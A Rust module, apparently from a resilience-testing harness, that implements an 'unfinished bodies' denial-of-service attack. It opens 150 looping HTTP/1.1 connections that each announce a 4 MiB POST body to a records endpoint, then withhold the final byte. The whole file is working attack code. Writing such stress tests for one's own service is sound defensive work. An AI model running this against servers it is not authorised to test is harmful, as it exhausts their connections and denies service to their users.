//! Bodies over HTTP/1.1 that lack their last byte.

use futures::future::{FutureExt as _, join_all};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{Attack, SCHEMA, Target, hostile};

/// Connections at once.
const CONNECTIONS: usize = 150;
/// Bytes that each announces.
const BODY_BYTES: usize = 4 << 20;

/// The attack.
pub const ATTACK: Attack =
    Attack { name: "unfinished bodies over HTTP/1", run: |target| run(target).boxed() };

async fn run(target: Target) -> anyhow::Result<()> {
    join_all((0..CONNECTIONS).map(|_| again_and_again(&target))).await;
    Ok(())
}

async fn again_and_again(target: &Target) {
    loop {
        drop(hold(target).await);
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

/// Sends all but the last byte, and waits until the server ends it.
async fn hold(target: &Target) -> std::io::Result<()> {
    let mut stream = hostile::connect(target).await?;
    let head = format!(
        "POST /api/v1/schemas/{SCHEMA}/records HTTP/1.1\r\nHost: {}\r\nContent-Length: \
         {BODY_BYTES}\r\n\r\n",
        target.address
    );
    stream.write_all(head.as_bytes()).await?;
    let piece = [b' '; 16 * 1024];
    let mut left = BODY_BYTES - 1;
    while left > 0 {
        let size = left.min(piece.len());
        stream.write_all(piece.get(..size).unwrap_or_default()).await?;
        target.count(size);
        left -= size;
    }
    stream.read_to_end(&mut Vec::new()).await.map(drop)
}
